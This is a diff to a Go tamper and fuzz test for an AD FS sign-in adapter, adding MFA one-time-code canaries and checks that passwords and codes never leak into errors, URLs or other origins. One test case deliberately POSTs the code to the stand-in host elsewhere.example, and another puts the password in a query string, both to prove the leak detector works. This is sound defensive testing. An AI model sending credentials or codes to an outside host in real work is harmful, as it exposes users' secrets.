@@ -19,11 +19,12 @@ import (
 	"gatehop/idp/idptest"
 )
 
-// canary is the password of a sign-in that is tampered with.
-const canary = "kennwort8264kanarie"
+// canary is the password of a sign-in that is tampered with, codeCanary every code.
+const canary, codeCanary = "kennwort8264kanarie", "731946028"
 
-// longest is above what a sign-in may take: 300 s, and 5 s to notice.
-const longest = 310 * time.Second
+// longest is above what a sign-in may take: 300 s, three times 120 s for the person to
+// answer on a phone, and 5 s to notice.
+const longest = 670 * time.Second
 
 // attackable are the servers whose answers are tampered with: every version, and every page
 // that the adapter has a step for.
@@ -38,6 +39,10 @@ func attackable() []idptest.Options {
 		u := idptest.Alice()
 		change(&u)
 		return []idptest.User{u}
+	}
+	for _, kind := range []idptest.Factor{idptest.FactorAzureNumber, idptest.FactorAzureServer, idptest.FactorAzureServerChoice, idptest.FactorRSA, idptest.FactorRSA2,
+		idptest.FactorSilverfort, idptest.FactorSafeNet, idptest.FactorChoice, idptest.FactorDuoUniversal} {
+		all = append(all, idptest.Options{MFA: kind, Users: state(func(u *idptest.User) { u.MFA = true })})
 	}
 	return append(all,
 		in20(idptest.Options{}), in20(idptest.Options{ClaimsProviders: organisations}), in20(idptest.Options{RelyingParties: other, UnknownRPError: true}),
@@ -94,7 +99,7 @@ func (a attacked) run(t testing.TB) (problem error) {
 	if a.login == nil {
 		a.login = signInAt
 	}
-	answers := idptest.NewAnswers(map[string][]string{"username": {alice, idptest.NoAnswer}, "password": {canary, idptest.NoAnswer}, "otp": {idptest.NoAnswer}})
+	answers := idptest.NewAnswers(map[string][]string{"username": {alice, idptest.NoAnswer}, "password": {canary, idptest.NoAnswer}, "otp": {codeCanary, idptest.NoAnswer}, "mfa": {"Phone call", "AzureMfaAuthentication"}})
 	session := &idp.Session{Trust: trust, Prompt: idp.FirstOf(answers), HTTP: a.client(trust, onlyHost{home, away})}
 	start := time.Now()
 	ctx, cancel := context.WithTimeout(t.Context(), 2*longest)
@@ -117,23 +122,25 @@ func judge(err error, took time.Duration) error {
 	switch {
 	case took > longest:
 		return fmt.Errorf("the sign-in took %v", took)
-	case err != nil && strings.Contains(err.Error(), canary):
-		return fmt.Errorf("the error holds the password: %w", err)
+	case err != nil && (strings.Contains(err.Error(), canary) || strings.Contains(err.Error(), codeCanary)):
+		return fmt.Errorf("the error holds a secret: %w", err)
 	}
 	return nil
 }
 
-// secretsAt counts the requests that hold the password, anywhere in them.
+// secretsAt counts the requests that hold the password, or the code, anywhere in them.
 func secretsAt(s *tampered, most int, where string) error {
-	n := 0
-	for _, r := range s.received {
-		n += strings.Count(r, canary)
-		if line, _, _ := strings.Cut(r, "\n"); strings.Contains(line, canary) {
-			return fmt.Errorf("the password is in an address of %s", where)
+	for _, secret := range []string{canary, codeCanary} {
+		n := 0
+		for _, r := range s.received {
+			n += strings.Count(r, secret)
+			if line, _, _ := strings.Cut(r, "\n"); strings.Contains(line, secret) {
+				return fmt.Errorf("%s is in an address of %s", secret, where)
+			}
 		}
-	}
-	if n > most {
-		return fmt.Errorf("the password was sent to %s %d times, want at most %d", where, n, most)
+		if n > most {
+			return fmt.Errorf("%s was sent to %s %d times, want at most %d", secret, where, n, most)
+		}
 	}
 	return nil
 }
@@ -165,12 +172,19 @@ func (o onlyHost) RoundTrip(r *http.Request) (*http.Response, error) {
 // AD FS at most once, in a body, and to nobody else.
 func FuzzTampered(f *testing.F) {
 	signer()
-	for v := range attackable() {
+	for v, o := range attackable() {
 		f.Add(byte(v), []byte{})
 		for kind := range tamperers {
+			if o.MFA != "" { // whose pages come after those of the others
+				f.Add(byte(v), []byte{3, byte(kind), byte(70 * kind), byte(31 * kind)})
+				continue
+			}
 			for answer := range 3 {
 				f.Add(byte(v), []byte{byte(answer), byte(kind), byte(70 * kind), byte(31 * answer)})
 			}
+		}
+		if o.MFA != "" {
+			continue
 		}
 		for i := range max(len(snippets), len(values)) {
 			f.Add(byte(v), []byte{1, 3, byte(i * 9), byte(i), 1, 4, byte(i * 7), byte(i)})
@@ -248,6 +262,13 @@ func TestTamperedJudge(t *testing.T) {
 	inAddress := walking(func(_ context.Context, w *form.Walk, p *form.Page) (form.Next, error) {
 		return w.Get(p, &url.URL{Scheme: "https", Host: host, Path: "/adfs/ls/", RawQuery: "Password=" + canary}), nil
 	})
+	telling := func(_ context.Context, s *idp.Session) error {
+		resp, err := s.HTTP.Post("https://elsewhere.example/", "text/plain", strings.NewReader(codeCanary))
+		if err == nil {
+			err = resp.Body.Close()
+		}
+		return err
+	}
 	refused := []tampering{{2, 7, 0, 0}, {2, 11, 3, 0}} // the answer to the password leads nowhere
 	cases := []struct {
 		name string
@@ -259,7 +280,9 @@ func TestTamperedJudge(t *testing.T) {
 		{"the adapter, led astray", attacked{how: refused}, ""},
 		{"panics", attacked{login: func(context.Context, *idp.Session) error { panic("at the page") }}, "panicked: at the page"},
 		{"hangs", attacked{login: func(ctx context.Context, _ *idp.Session) error { <-ctx.Done(); return ctx.Err() }}, "took"},
-		{"says the password", attacked{login: func(context.Context, *idp.Session) error { return errors.New("no form for " + canary) }}, "the error holds the password"},
+		{"says the password", attacked{login: func(context.Context, *idp.Session) error { return errors.New("no form for " + canary) }}, "the error holds a secret"},
+		{"says the code", attacked{login: func(context.Context, *idp.Session) error { return errors.New("not " + codeCanary) }}, "the error holds a secret"},
+		{"gives the code away", attacked{login: telling, client: bare}, "to another origin"},
 		{"sends it again", attacked{login: again, client: bare}, "to AD FS 2 times"},
 		{"follows a lure", attacked{login: follow, client: bare, how: action}, "to another origin"},
 		{"takes its cookies along", attacked{how: []tampering{{1, 7, 0, 0}, {1, 11, 3, 0}}, client: anywhere}, "a cookie was sent"},
